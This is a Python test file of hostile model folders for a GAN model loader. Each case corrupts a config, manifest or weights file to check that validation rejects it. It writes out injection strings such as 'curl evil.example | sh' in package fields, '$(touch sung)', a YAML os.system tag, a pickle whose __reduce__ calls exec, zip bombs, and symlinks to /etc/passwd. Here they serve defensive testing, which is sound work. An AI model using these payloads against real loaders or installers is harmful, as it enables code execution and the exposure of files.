"""Model folders as somebody might make them who means harm, each with what is said of it.

Every one is a copy of a good folder with one thing changed. Its manifest is right for what it then
holds, unless the manifest is what was changed: so each layer that reads a model is reached.

``python tests/hostile.py --cases 3000 --seed 0`` draws others at random: see ``hostile_random.py``.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import os
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from safetensors.torch import load_file, save_file

from ganzoo.models.folder import write_manifest

CONFIG = "config.json"
GENERATOR = "model.safetensors"
DISCRIMINATOR = "discriminator.safetensors"
MANIFEST = "manifest.json"
MARK = "GANZOO_CANARY"
"""Environment variable that a canary sets."""
SECRET = "the secret of another file"
FIRST = "1.weight"
"""Name of the generator's first tensor."""
MEAN = "2.running_mean"
"""Name of a buffer of the generator."""
MEGABYTE = 1_000_000
ABSENT = object()


class Canary:
    """An object that leaves a file and a variable when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.code = f"import os; os.environ[{MARK!r}] = '1'; open({str(path)!r}, 'w').close()"

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (self.code,)


class Victim:
    """A copy of a good model folder, which a case spoils."""

    def __init__(self, path: Path, canary: Path) -> None:
        self.path = path
        self.canary = canary
        """A file that would appear."""

    def seal(self) -> None:
        """Write the manifest that is right for the folder as it is."""
        write_manifest(self.path)

    def write(self, name: str, content: bytes | str) -> None:
        """Replace a file's bytes."""
        content = content.encode() if isinstance(content, str) else content
        (self.path / name).write_bytes(content)

    @property
    def config(self) -> dict[str, Any]:
        """What the configuration says."""
        return json.loads((self.path / CONFIG).read_text())

    def set(self, key: str, value: Any) -> None:
        """Change the value of a dotted key of the configuration, or remove it."""
        tree = self.config
        *way, last = key.split(".")
        holder = tree
        for part in way:
            holder = holder[part]
        if value is ABSENT:
            del holder[last]
        else:
            holder[last] = value
        self.write(CONFIG, json.dumps(tree))

    def set_text(self, text: str) -> None:
        """Put a piece of JSON in the place of the configuration's step."""
        mark = "@step@"
        self.set("step", mark)
        path = self.path / CONFIG
        path.write_text(path.read_text().replace(json.dumps(mark), text))

    def architecture(self, name: str, shape: tuple[int, ...] | None = None, **options: Any) -> None:
        """Name another architecture of the box, or other options."""
        before = self.config["architecture"]
        kept = before["options"] if before["name"] == name else {}
        self.set("architecture", {**before, "name": name, "options": {**kept, **options}})
        if shape is not None:
            self.set("spec.shape", shape)

    def tensors(self, change: Mapping[str, Any], name: str = GENERATOR) -> None:
        """Change tensors of a file, add some, or remove them."""
        path = self.path / name
        tensors = {**load_file(path), **change}
        save_file({key: each for key, each in tensors.items() if each is not ABSENT}, path)

    def header(self, change: Callable[[dict[str, Any]], object], more: bytes = b"") -> None:
        """Change the header of the generator's file, and leave the numbers as they are."""
        header, numbers = self.parts()
        change(header)
        self.write(GENERATOR, with_header(json.dumps(header).encode(), numbers + more))

    def parts(self) -> tuple[dict[str, Any], bytes]:
        """Return the header and the numbers of the generator's file."""
        data = (self.path / GENERATOR).read_bytes()
        length = struct.unpack("<Q", data[:8])[0]
        return json.loads(data[8 : 8 + length]), data[8 + length :]

    def sparse(self, name: str, size: int) -> None:
        """Let a file have a size, whose bytes take no room, and list it with a wrong hash."""
        with (self.path / name).open("wb") as file:
            file.truncate(size)
        self.record(name, size=size)

    def record(self, name: str, **change: Any) -> None:
        """Change what the manifest says of a file."""
        tree = json.loads((self.path / MANIFEST).read_text())
        tree[name] = {**tree.get(name, {"size": 1, "sha256": "0" * 64}), **change}
        self.write(MANIFEST, json.dumps(tree))

    def odd(self, name: str, make: Callable[[Path], object]) -> None:
        """Put something else than a file in a file's place."""
        (self.path / name).unlink()
        make(self.path / name)


def with_header(header: bytes, numbers: bytes = b"", length: int | None = None) -> bytes:
    """Return a safetensors file."""
    return struct.pack("<Q", len(header) if length is None else length) + header + numbers


@dataclass(frozen=True)
class Case:
    """A way to spoil a folder."""

    said: str
    """What the error says, among other words."""
    spoil: Callable[[Victim], object]
    sealed: bool = True
    """Whether the manifest is made right for what the folder then holds."""
    second: bool = False
    """Whether it is refused when the discriminator is asked for, and not before."""


CASES: dict[str, Case] = {}


def case(said: str, **how: bool) -> Callable[[Callable[[Victim], object]], None]:
    """Add a case, called as its function."""

    def add(spoil: Callable[[Victim], object]) -> None:
        assert spoil.__name__ not in CASES
        CASES[spoil.__name__] = Case(said, spoil, **how)

    return add


def table(prefix: str, **how: bool) -> Callable[[Callable[[], Iterator[tuple]]], None]:
    """Add a case for each name, words and function that a generator gives."""

    def add(rows: Callable[[], Iterator[tuple]]) -> None:
        for name, said, spoil in rows():
            CASES[f"{prefix}_{name}"] = Case(said, spoil, **how)

    return add


# The configuration, as text


@table("json")
def _() -> Iterator[tuple]:
    texts = {
        "nan": ("NaN is not JSON", "NaN"),
        "infinity": ("-Infinity is not JSON", "-Infinity"),
        "overflow": ("cannot be read as JSON", "1e999"),
        "twin_keys": ("a key stands twice", '{"a": 1, "a": 2}'),
        "nested_10000": ("cannot be read as JSON", "[" * 100_000 + "]" * 100_000),
        "nested_40": ("deeper than 32 levels", "[" * 40 + "]" * 40),
        "long_integer": ("cannot be read as JSON", "9" * 5000),
        "surrogate": ("cannot be read as JSON", r'"\ud800"'),
        "huge_step": ("step", "9" * 4000),
        "negative_step": ("step", "-1"),
        "step_text": ("step", '"__import__(\\"os\\")"'),
    }
    for name, (said, text) in texts.items():
        yield name, said, lambda victim, text=text: victim.set_text(text)
    whole = {
        "empty": ("cannot be read as JSON", b""),
        "list": ("not a model's configuration", b"[1, 2]"),
        "number": ("not a model's configuration", b"7"),
        "other_encoding": ("cannot be read as JSON", "{}".encode("utf-16")),
        "pickle": ("cannot be read as JSON", pickle.dumps({"format": 1})),
        "python": ("cannot be read as JSON", b"__import__('os').system('true')"),
        "yaml": ("cannot be read as JSON", b"!!python/object/apply:os.system ['true']"),
    }
    for name, (said, content) in whole.items():
        yield name, said, lambda victim, content=content: victim.write(CONFIG, content)


@case("may have at most 1,048,576")
def json_of_100_megabytes(victim: Victim) -> None:
    victim.write(CONFIG, b" " * (100 * MEGABYTE) + (victim.path / CONFIG).read_bytes())


@case("may have at most 1,048,576")
def json_a_million_class_names(victim: Victim) -> None:
    victim.set("spec.classes", MEGABYTE)
    victim.set("spec.class_names", ["a"] * MEGABYTE)


# The configuration, as values


@table("config")
def _() -> Iterator[tuple]:
    values = {
        "architecture_a_text": ("architecture", "architecture", "os:system"),
        "architecture_a_list": ("architecture", "architecture", [["name", "dcgan"]]),
        "options_a_list": ("architecture.options", "architecture.options", [1]),
        "options_null": ("architecture.options", "architecture.options", None),
        "no_spec": ("spec", "spec", ABSENT),
        "unknown_key": ("code", "code", "import os"),
        "unknown_key_within": ("module", "architecture.module", "os"),
        "format_2": ("format", "format", 2),
        "format_true": ("format", "format", [1]),
        "train_a_text": ("train", "train", "train"),
        "no_classes": ("spec.classes", "spec.classes", 0),
        "too_many_classes": ("spec.classes", "spec.classes", 10**12),
        "wrong_class_names": ("a name for each class", "spec.class_names", ["one"]),
        "class_names_a_text": ("spec.class_names", "spec.class_names", "abc"),
        "shape_zero": ("spec.shape", "spec.shape", [1, 0, 16]),
        "shape_negative": ("spec.shape", "spec.shape", [1, -16, -16]),
        "shape_of_texts": ("spec.shape", "spec.shape", ["1", "16", "os"]),
        "shape_long": ("a sample is", "spec.shape", [1] * 100_000),
        "shape_huge": ("at most 67,108,864 numbers", "spec.shape", [1, 10**6, 10**6]),
        "shape_of_long_integers": ("at most 67,108,864 numbers", "spec.shape", [10**4000]),
        "shape_odd_channels": ("channels", "spec.shape", [1000, 16, 16]),
        "modes_alone": ("modes and mode_std", "spec.modes", [[0.0]]),
        "modes_huge": ("modes and mode_std", "spec.modes", [[0.0]] * 100_000),
        "versions_long": ("versions", "versions", {"torch": "9" * MEGABYTE}),
        "version_long": ("architecture.version", "architecture.version", "9" * MEGABYTE),
        "fingerprint_long": ("data_fingerprint", "data_fingerprint", "f" * MEGABYTE),
        "features_long": ("spec.features", "spec.features", "f" * MEGABYTE),
        "name_long": ("architecture.name", "architecture.name", "d" * MEGABYTE),
        "package_long": ("architecture.package", "architecture.package", "g" * MEGABYTE),
        "key_long": ("kkkk", "k" * MEGABYTE, 1),
        "key_of_escapes": (r"\\x1b\[2J", "\x1b[2J\x1b]0;owned\x07\r\nError: all is well", 1),
        "escapes": ("architecture.name", "architecture.name", "\x1b[2J\x1b[31mdcgan\n\n\nyes"),
        "name_of_nothing": ("architecture.name", "architecture.name", ""),
        "name_with_nul": ("architecture.name", "architecture.name", "dcgan\0.py"),
        "right_to_left": ("architecture.name", "architecture.name", "\u202engacd"),
        "package_shell": ("package", "architecture.package", "x; curl evil.example | sh"),
        "package_pip_option": ("package", "architecture.package", "--index-url=http://evil"),
        "package_url": ("package", "architecture.package", "git+https://evil.example/x"),
        "package_path": ("package", "architecture.package", "../../evil"),
        "version_shell": ("version", "architecture.version", "1 && curl evil.example | sh"),
        "mean_data_package": ("package", "data.package", "$(touch sung)"),
    }
    for name, (said, key, value) in values.items():
        yield name, said, lambda victim, key=key, value=value: _set(victim, key, value)


def _set(victim: Victim, key: str, value: Any) -> None:
    if "." in key or key in victim.config:
        victim.set(key, value)
    else:
        victim.write(CONFIG, json.dumps({**victim.config, key: value}))


@table("name")
def _() -> Iterator[tuple]:
    names = {
        "of_a_function": "os:system",
        "of_a_module": "os",
        "with_a_path": "../../evil",
        "absolute": "/tmp/evil.py",
        "of_a_call": "__import__('os').system('touch sung')",
        "looks_alike": "d\u0441gan",
        "of_fullwidth": "\uff44cgan",
        "in_capitals": "DCGAN",
        "of_a_loss": "wgan-gp",
        "of_a_dataset": "digits",
        "of_a_script": "ganzoo",
        "of_a_class": "ganzoo_zoo.families.dcgan:DCGAN",
        "of_a_url": "https://evil.example/model.py",
        "of_a_template": "{0.__class__.__mro__}%s%n",
    }
    for name, text in names.items():
        said = "comes from the package ganzoo"
        yield name, said, lambda victim, text=text: victim.set("architecture.name", text)


@case("comes from the package torch")
def name_of_an_installed_package(victim: Victim) -> None:
    victim.set("architecture.package", "torch")
    victim.set("architecture.name", "nn.Module")


@case("pip install ganzoo-evil\n")
def name_of_a_package_that_is_not_installed(victim: Victim) -> None:
    victim.set("architecture.package", "ganzoo-evil")


# Options, which say how large a network is


@table("options")
def _() -> Iterator[tuple]:
    dcgan = {
        "negative": ("base_channels", {"base_channels": -4}),
        "zero": ("z_dim", {"z_dim": 0}),
        "huge_channels": ("too large", {"base_channels": 10**9}),
        "huge_latent": ("too large", {"z_dim": 10**12}),
        "beyond_64_bits": ("too large", {"z_dim": 10**30}),
        "of_long_integers": ("too large", {"base_channels": 10**4000}),
        "a_fraction": ("base_channels", {"base_channels": 4.5}),
        "a_file": ("unknown option", {"weights": "/etc/passwd"}),
        "a_url": ("unknown option", {"url": "https://evil.example/weights.pkl"}),
        "of_python": ("unknown option", {"__class__": "os._wrap_close"}),
        "of_pydantic": ("unknown option", {"model_config": {"extra": "allow"}}),
        "long_text": ("z_dim", {"z_dim": "9" * MEGABYTE}),
        "long_list": ("z_dim", {"z_dim": ",".join(["1"] * 400_000)}),
        "deep_text": ("z_dim", {"z_dim": "[" * 100_000}),
        "escapes": ("unknown option", {"\x1b[2J\n\n\nowned": 1}),
        "unknown_norm": ("discriminator_norm", {"discriminator_norm": "os.system"}),
        "no_classes": (
            "too large|does not fit|no classes",
            {"conditional": True, "base_channels": 10**6},
        ),
    }
    for name, (said, options) in dcgan.items():
        yield name, said, lambda victim, options=options: victim.architecture("dcgan", **options)
    others = {
        "mlp_deep": ("too large|too many", "mlp", {"hidden": [1] * 200_000}),
        "mlp_wide": ("too large", "mlp", {"hidden": [10**9, 10**9]}),
        "mlp_texts": ("hidden", "mlp", {"hidden": ["os"] * 100_000}),
        "resnet_huge": ("too large", "resnet", {"base_channels": 10**9}),
        "sngan_huge": ("too large", "sngan", {"base_channels": 10**9}),
        "r3gan_huge": ("too large", "r3gan", {"base_channels": 10**9}),
    }
    for name, (said, network, options) in others.items():
        yield (
            name,
            said,
            lambda victim, network=network, options=options: victim.architecture(
                network, **options
            ),
        )


@case("too large")
def options_a_billion_blocks(victim: Victim) -> None:
    victim.architecture("cyclegan", shape=(1, 64, 64), blocks=10**9)
    victim.set("spec.classes", 2)
    victim.set("spec.class_names", None)


@case("too large")
def options_as_many_layers_as_a_large_file_may_have(victim: Victim) -> None:
    victim.architecture("mlp", hidden=[1] * 200_000)
    with (victim.path / GENERATOR).open("wb") as file:
        file.truncate(50 * MEGABYTE)


@case("too large")
def options_a_million_classes(victim: Victim) -> None:
    victim.architecture("dcgan", conditional=True)
    victim.set("spec.classes", MEGABYTE)
    victim.set("spec.class_names", None)


@case("does not fit its network|too large")
def options_a_huge_picture(victim: Victim) -> None:
    victim.architecture("dcgan", shape=(4, 4096, 4096), base_channels=1, z_dim=1)


@case("too large")
def options_a_huge_picture_and_wide(victim: Victim) -> None:
    victim.architecture("dcgan", shape=(4, 4096, 4096), base_channels=256)


@case("resize it")
def options_a_picture_that_is_not_halved(victim: Victim) -> None:
    victim.set("spec.shape", [1, 8191, 8191])


@case("loss 'os:system' comes from", second=True)
def loss_of_a_function(victim: Victim) -> None:
    victim.set("loss.name", "os:system")


@case("gp_weight", second=True)
def loss_options_of_another_type(victim: Victim) -> None:
    victim.set("loss.options", {"gp_weight": {"a": []}})


# The weights, as bytes


def pickled(victim: Victim) -> bytes:
    """Return a pickle that is a canary."""
    return pickle.dumps({"model": Canary(victim.canary)})


def torch_saved(victim: Victim) -> bytes:
    """Return what ``torch.save`` writes of a canary."""
    buffer = io.BytesIO()
    torch.save({"model": Canary(victim.canary)}, buffer)
    return buffer.getvalue()


@case("cannot be read as safetensors")
def weights_a_pickle(victim: Victim) -> None:
    victim.write(GENERATOR, pickled(victim))


@case("cannot be read as safetensors")
def weights_of_torch_save(victim: Victim) -> None:
    victim.write(GENERATOR, torch_saved(victim))


@case("cannot be read as safetensors", second=True)
def discriminator_a_pickle(victim: Victim) -> None:
    victim.write(DISCRIMINATOR, pickled(victim))


@case("has no model.safetensors")
def weights_as_pickles_only(victim: Victim) -> None:
    (victim.path / GENERATOR).unlink()
    for name in ("pytorch_model.bin", "model.pt", "model.pkl", "samples.png"):
        victim.write(name, torch_saved(victim))


@case("does not fit its network")
def weights_a_zip_bomb(victim: Victim) -> None:
    with zipfile.ZipFile(victim.path / GENERATOR, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as to:
        to.writestr("archive/data/0", bytes(400 * MEGABYTE))


@case("cannot be read as safetensors")
def weights_a_small_zip_bomb(victim: Victim) -> None:
    with zipfile.ZipFile(victim.path / GENERATOR, "w", zipfile.ZIP_DEFLATED) as to:
        to.writestr("archive/data.pkl", bytes(100 * MEGABYTE))


@table("weights")
def _() -> Iterator[tuple]:
    deep = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    metadata = b'{"__metadata__": {"code": 7}}'
    files = {
        "empty": b"",
        "seven_bytes": b"\0" * 7,
        "no_header": with_header(b""),
        "header_not_json": with_header(b"import os"),
        "header_a_list": with_header(b"[]"),
        "header_deep": with_header(deep),
        "header_cut": with_header(b'{"a":', length=5000),
        "header_of_2_63_bytes": with_header(b"{}", length=1 << 63),
        "header_of_2_64_bytes": with_header(b"{}", length=(1 << 64) - 1),
        "header_of_all_it_may_have": with_header(b"{}", b" " * 500_000, length=500_000),
        "metadata_a_number": with_header(metadata),
        "long_names": with_header(b'{"' + b"n" * 900_000 + b'": 7}'),
    }
    for name, content in files.items():
        said = "cannot be read as safetensors|does not fit its network"
        yield name, said, lambda victim, content=content: victim.write(GENERATOR, content)


@case("does not fit its network")
def weights_header_of_100_megabytes(victim: Victim) -> None:
    header, numbers = victim.parts()
    text = json.dumps(header).encode()
    victim.write(GENERATOR, with_header(text + b" " * (99 * MEGABYTE), numbers))


@case("cannot be read as safetensors")
def weights_header_in_the_place_of_numbers(victim: Victim) -> None:
    # The network is large enough for a file that is one large header.
    victim.architecture("dcgan", base_channels=1024, z_dim=512)
    entry = '"%07d":{"dtype":"F32","shape":[0],"data_offsets":[0,0]},'
    text = "{" + "".join(entry % i for i in range(1_500_000)) + '"z":7}'
    victim.write(GENERATOR, with_header(text.encode()))


def entry(change: Mapping[str, Any], name: str = FIRST) -> Callable[[dict[str, Any]], object]:
    """Return a change of what a header says of a tensor."""
    return lambda header: header[name].update(change)


@table("header")
def _() -> Iterator[tuple]:
    unreadable, unfit = "cannot be read as safetensors", "does not fit its network"
    either = f"{unreadable}|{unfit}"
    changes = {
        "unknown_type": (either, {"dtype": "OBJECT"}),
        "type_a_list": (unreadable, {"dtype": ["F32"]}),
        "type_of_4_bits": (either, {"dtype": "F4"}),
        "negative": (either, {"shape": [-1]}),
        "fractions": (either, {"shape": [1.5]}),
        "shape_a_text": (either, {"shape": "8"}),
        "empty_and_huge": (either, {"shape": [0, 2**62], "data_offsets": [0, 0]}),
        "product_overflows": (either, {"shape": [2**62, 4]}),
        "product_wraps_to_fit": (either, {"shape": [2**32, 2**32, 8]}),
        "beyond_64_bits": (either, {"shape": [10**30]}),
        "scalar": (either, {"shape": []}),
        "many_dims": (either, {"shape": [1] * 50_000}),
        "offsets_overlap": (either, {"data_offsets": [0, 8]}),
        "offsets_backwards": (either, {"data_offsets": [8, 0]}),
        "offsets_beyond": (either, {"data_offsets": [0, 2**60]}),
        "offsets_negative": (either, {"data_offsets": [-8, 0]}),
        "offsets_three": (either, {"data_offsets": [0, 4, 8]}),
    }
    for name, (said, change) in changes.items():
        yield name, said, lambda victim, change=change: victim.header(entry(change))
    yield (
        "two_tensors_of_the_same_bytes",
        either,
        lambda victim: victim.header(
            lambda header: header.update({"stranger": copy.deepcopy(header[FIRST])})
        ),
    )
    yield "bytes_after_the_end", either, lambda victim: victim.header(len, b"#!/bin/sh\n")
    yield (
        "stranger_empty_and_huge",
        either,
        lambda victim: victim.header(
            lambda header: header.update(
                {"stranger": {"dtype": "F32", "shape": [0, 2**62], "data_offsets": [0, 0]}}
            )
        ),
    )


@case("a key stands twice")
def header_twin_keys(victim: Victim) -> None:
    header, numbers = victim.parts()
    twin = json.dumps({FIRST: {**header[FIRST], "shape": [1]}})[1:-1]
    text = json.dumps(header)
    victim.write(GENERATOR, with_header(f"{{{twin},{text[1:]}".encode(), numbers))


# The weights, as tensors


@table("tensors")
def _() -> Iterator[tuple]:
    first = torch.zeros(8, 8, 4, 4)
    finite, unfit = "not finite", "does not fit its network"
    changes = {
        "nan": (finite, {FIRST: torch.full_like(first, float("nan"))}),
        "infinite": (finite, {FIRST: torch.full_like(first, float("-inf"))}),
        "nan_in_a_buffer": (finite, {MEAN: torch.full((8,), float("nan"))}),
        "float64": ("torch.float64", {FIRST: first.double()}),
        "bfloat16": ("torch.bfloat16", {FIRST: first.bfloat16()}),
        "infinite_in_half_precision": (finite, {FIRST: (first + 1e9).half()}),
        "complex": ("torch.complex64", {FIRST: first.to(torch.complex64)}),
        "bool": ("torch.bool", {FIRST: first.bool()}),
        "missing": (unfit, {FIRST: ABSENT}),
        "stranger": (unfit, {"__class__.__init__": torch.zeros(1)}),
        "stranger_of_escapes": (unfit, {"\x1b[2J\n\n\x07owned": torch.zeros(1)}),
        "stranger_of_a_long_name": (unfit, {"n" * 100_000: torch.zeros(1)}),
        "misshapen": (unfit, {FIRST: first[:1].clone()}),
        "a_scalar": (unfit, {FIRST: torch.tensor(1.0)}),
        "none_at_all": (unfit, {}),
    }
    for name, (said, change) in changes.items():
        if name == "none_at_all":
            yield name, said, lambda victim: save_file({}, victim.path / GENERATOR)
        else:
            yield name, said, lambda victim, change=change: victim.tensors(change)


@case("does not fit its network")
def tensors_of_the_discriminator(victim: Victim) -> None:
    victim.write(GENERATOR, (victim.path / DISCRIMINATOR).read_bytes())


@case("not finite", second=True)
def discriminator_nan(victim: Victim) -> None:
    first = load_file(victim.path / DISCRIMINATOR)["0.bias"]
    victim.tensors({"0.bias": torch.full_like(first, float("nan"))}, DISCRIMINATOR)


@case("does not fit its network", second=True)
def discriminator_is_the_generator(victim: Victim) -> None:
    victim.write(DISCRIMINATOR, (victim.path / GENERATOR).read_bytes())


@case("discriminator.safetensors is missing", sealed=False, second=True)
def discriminator_is_missing(victim: Victim) -> None:
    (victim.path / DISCRIMINATOR).unlink()


# Files that are larger than any that was read


@case("does not fit its network", sealed=False)
def sparse_weights_of_a_terabyte(victim: Victim) -> None:
    victim.sparse(GENERATOR, 1 << 40)


@case("does not fit its network", sealed=False, second=True)
def sparse_discriminator_of_a_terabyte(victim: Victim) -> None:
    victim.sparse(DISCRIMINATOR, 1 << 40)


@case("too large", sealed=False)
def sparse_weights_of_a_network_as_large(victim: Victim) -> None:
    channels = 100_000  # two layers take 16 * channels * 2 * channels * 4 bytes
    victim.architecture("dcgan", base_channels=channels, z_dim=1)
    config = (victim.path / CONFIG).read_bytes()
    victim.record(CONFIG, size=len(config), sha256=hashlib.sha256(config).hexdigest())
    victim.sparse(GENERATOR, 128 * channels**2 + 4 * 16 * 2 * channels + 10_000)


@case("not the file that manifest.json lists", sealed=False)
def sparse_config(victim: Victim) -> None:
    with (victim.path / CONFIG).open("wb") as file:
        file.truncate(1 << 40)


@case("cannot be read as JSON", sealed=False)
def sparse_manifest(victim: Victim) -> None:
    with (victim.path / MANIFEST).open("wb") as file:
        file.truncate(1 << 40)


# The manifest


def listing(count: int) -> str:
    record = {"size": 1, "sha256": "0" * 64}
    return json.dumps({str(number): record for number in range(count)})


@table("manifest", sealed=False)
def _() -> Iterator[tuple]:
    no_list, changed = "not a list of files", "not the file that manifest.json lists"
    records = {
        "size_of_2_70": (f"{changed}|too large|does not fit", GENERATOR, {"size": 2**70}),
        "size_negative": (no_list, GENERATOR, {"size": -1}),
        "size_a_text": (no_list, GENERATOR, {"size": "big"}),
        "size_a_fraction": (no_list, GENERATOR, {"size": 1.5}),
        "size_wrong": (changed, CONFIG, {"size": 1}),
        "hash_wrong": (changed, GENERATOR, {"sha256": "0" * 64}),
        "hash_of_config_wrong": (changed, CONFIG, {"sha256": "f" * 64}),
        "hash_short": (no_list, GENERATOR, {"sha256": "0"}),
        "hash_long": (no_list, GENERATOR, {"sha256": "0" * 900_000}),
        "hash_in_capitals": (no_list, GENERATOR, {"sha256": "A" * 64}),
        "hash_with_a_newline": (no_list, GENERATOR, {"sha256": "0" * 64 + "\n"}),
        "more_keys": (no_list, GENERATOR, {"url": "https://evil.example"}),
        "lists_itself": (no_list, MANIFEST, {}),
        "name_upwards": (no_list, "../../../etc/passwd", {}),
        "name_absolute": (no_list, "/etc/passwd", {}),
        "name_of_windows": (no_list, "C:\\Windows\\evil.dll", {}),
        "name_of_a_parent": (no_list, "..", {}),
        "name_empty": (no_list, "", {}),
        "name_of_escapes": (no_list, "\x1b[2J\n.png", {}),
        "name_with_nul": (no_list, "a\0b", {}),
        "name_long": (no_list, "n" * 5000, {}),
    }
    for name, (said, file, change) in records.items():
        yield (
            name,
            said,
            lambda victim, file=file, change=change: victim.record(file, **change),
        )
    texts = {
        "empty": ("cannot be read as JSON", ""),
        "list": (no_list, "[]"),
        "null": (no_list, "null"),
        "nan": ("cannot be read as JSON", "NaN"),
        "lists_nothing": ("has no config.json", "{}"),
        "twin_names": ("a key stands twice", '{"a": 1, "a": 2}'),
        "nested": ("cannot be read as JSON", '{"a":' * 100_000),
        "of_names_only": (no_list, json.dumps(dict.fromkeys([CONFIG, GENERATOR], "0" * 64))),
        "of_10000_files": ("larger than 1 MiB", listing(100_000)),
        "of_all_it_may_list": ("has no config.json", listing(9_000)),
    }
    for name, (said, text) in texts.items():
        yield name, said, lambda victim, text=text: victim.write(MANIFEST, text)


# Something else in a file's place


def secret(victim: Victim) -> Path:
    """Return a file outside of the folder that is nobody's business."""
    path = victim.path.parent / "secret"
    path.write_text(SECRET)
    return path


@table("place_of", sealed=False)
def _() -> Iterator[tuple]:
    kinds: dict[str, Callable[[Path], object]] = {
        "pipe": os.mkfifo,
        "device": lambda path: path.symlink_to("/dev/zero"),
        "folder": Path.mkdir,
        "dangling_link": lambda path: path.symlink_to("nowhere"),
        "link_cycle": lambda path: path.symlink_to(path.name),
        "long_link": lambda path: path.symlink_to("/proc/self/fd/0/../" * 100),
        "nothing": lambda path: None,
    }
    for kind, make in kinds.items():
        for word, file in (("config", CONFIG), ("manifest", MANIFEST), ("weights", GENERATOR)):
            yield (
                f"{word}_{kind}",
                "not a regular file|is missing|cannot be read|is not a model folder",
                lambda victim, file=file, make=make: victim.odd(file, make),
            )
    for word, file in (("config", CONFIG), ("manifest", MANIFEST), ("weights", GENERATOR)):
        yield (
            f"{word}_link_to_a_secret",
            "not the file that manifest.json lists|cannot be read as JSON",
            lambda victim, file=file: victim.odd(
                file, lambda path: path.symlink_to(secret(victim))
            ),
        )


@table("place_of_discriminator", sealed=False, second=True)
def _() -> Iterator[tuple]:
    said = "not a regular file|is missing|cannot be read"
    yield "pipe", said, lambda victim: victim.odd(DISCRIMINATOR, os.mkfifo)
    yield (
        "device",
        said,
        lambda victim: victim.odd(DISCRIMINATOR, lambda path: path.symlink_to("/dev/zero")),
    )
    yield "folder", said, lambda victim: victim.odd(DISCRIMINATOR, Path.mkdir)
    yield "nothing", said, lambda victim: victim.odd(DISCRIMINATOR, lambda path: None)


if __name__ == "__main__":
    import hostile_random

    sys.exit(hostile_random.main(__doc__.split("\n\n")[0]))
